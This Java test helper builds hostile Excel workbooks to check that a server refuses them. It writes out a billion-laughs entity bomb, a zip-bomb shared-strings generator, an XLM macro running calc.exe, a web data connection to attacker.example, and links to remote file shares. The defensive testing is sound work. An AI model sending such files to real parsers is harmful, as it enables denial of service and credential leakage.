package goalbook;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/**
 * Hostile parts grafted into a real filled template, each with the refusal code the server must answer,
 * e.g. {@code xl/vbaProject.bin} added → {@code macros}. The rest of the workbook stays valid, so
 * only the graft can explain a refusal.
 */
final class HostileGrafts {
    private HostileGrafts() {}

    record Graft(String name, String expectedCode, UnaryOperator<Map<String, byte[]>> change) {}

    static final String BILLION_LAUGHS = """
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            <!DOCTYPE lolz [
             <!ENTITY lol "lol">
             <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
             <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
             <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
             <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
             <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
             <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
             <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
             <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
             <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            """;

    static final Map<String, Graft> ALL = graftsByName();

    private static Map<String, Graft> graftsByName() {
        Map<String, Graft> m = new LinkedHashMap<>();
        add(m, new Graft("billion_laughs_in_sheet", "xml_doctype", parts -> {
            String sheet = firstSheet(parts);
            String xml = new String(parts.get(sheet), StandardCharsets.UTF_8);
            int root = xml.indexOf("<worksheet");
            parts.put(sheet, (BILLION_LAUGHS + xml.substring(root).replaceFirst("<sheetData>|<sheetData/>",
                    "$0&lol9;")).getBytes(StandardCharsets.UTF_8));
            return parts;
        }));
        add(m, new Graft("vba_project", "macros", parts -> put(parts, "xl/vbaProject.bin", oleHeaderAnd(4096))));
        add(m, new Graft("external_link", "external_links", parts -> put(parts, "xl/externalLinks/externalLink1.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                        + "<externalBook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId1\"/>"
                        + "</externalLink>").getBytes(StandardCharsets.UTF_8))));
        add(m, new Graft("embedded_ole_object", "embedded_objects", parts -> put(parts, "xl/embeddings/oleObject1.bin", oleHeaderAnd(8192))));
        add(m, new Graft("huge_shared_strings", "zip_bomb", parts -> put(parts, "xl/sharedStrings.xml", hugeSharedStrings(50 << 20))));
        add(m, new Graft("data_connection", "data_connections", parts -> put(parts, "xl/connections.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                        + "<connection id=\"1\" name=\"evil\" type=\"4\" refreshedVersion=\"6\"><webPr url=\"http://attacker.example/x\"/></connection>"
                        + "</connections>").getBytes(StandardCharsets.UTF_8))));
        add(m, new Graft("xlm_macro_sheet", "macros", parts -> put(parts, "xl/macrosheets/sheet1.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                        + " xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\">"
                        + "<f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>").getBytes(StandardCharsets.UTF_8))));
        add(m, new Graft("picture_linked_to_share", "external_targets", parts -> put(parts, "xl/drawings/_rels/drawing9.xml.rels",
                externalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "\\\\host\\share\\x.png"))));
        add(m, new Graft("hyperlink_to_file_share", "external_targets", parts -> put(parts, "xl/worksheets/_rels/sheet9.xml.rels",
                externalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", "file://host/share/x"))));
        return m;
    }

    /** A relationships part with one target outside the workbook, e.g. a picture linked to a Windows share. */
    static byte[] externalRelationship(String type, String target) {
        return ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + type + "\" Target=\"" + target + "\" TargetMode=\"External\"/>"
                + "</Relationships>").getBytes(StandardCharsets.UTF_8);
    }

    private static void add(Map<String, Graft> m, Graft g) {
        m.put(g.name(), g);
    }

    private static Map<String, byte[]> put(Map<String, byte[]> parts, String name, byte[] bytes) {
        parts.put(name, bytes);
        return parts;
    }

    private static String firstSheet(Map<String, byte[]> parts) {
        return parts.keySet().stream().filter(n -> n.startsWith("xl/worksheets/sheet") && n.endsWith(".xml")).sorted().findFirst()
                .orElseThrow(() -> new IllegalStateException("template has no sheet part: " + parts.keySet()));
    }

    /** An OLE2 compound-file signature and padding: what a real vbaProject.bin or oleObject.bin starts with. */
    private static byte[] oleHeaderAnd(int size) {
        byte[] b = new byte[size];
        byte[] sig = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(sig, 0, b, 0, sig.length);
        return b;
    }

    /** A shared-strings part of {@code size} bytes, nearly all the digit 0: deflates about 1000 to 1. */
    static byte[] hugeSharedStrings(int size) {
        String head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                + " count=\"1\" uniqueCount=\"1\"><si><t>";
        String tail = "</t></si></sst>";
        byte[] b = new byte[size];
        java.util.Arrays.fill(b, (byte) '0');
        byte[] h = head.getBytes(StandardCharsets.UTF_8);
        byte[] t = tail.getBytes(StandardCharsets.UTF_8);
        System.arraycopy(h, 0, b, 0, h.length);
        System.arraycopy(t, 0, b, size - t.length, t.length);
        return b;
    }

    /** Rewrites {@code xlsx} part by part after {@code change}; with no change it is the same workbook in new zip bytes. */
    static byte[] rewrite(byte[] xlsx, UnaryOperator<Map<String, byte[]>> change) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                parts.put(e.getName(), in.readAllBytes());
            }
            Map<String, byte[]> changed = change.apply(parts);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map.Entry<String, byte[]> p : changed.entrySet()) {
                    zip.putNextEntry(new ZipEntry(p.getKey()));
                    zip.write(p.getValue());
                    zip.closeEntry();
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
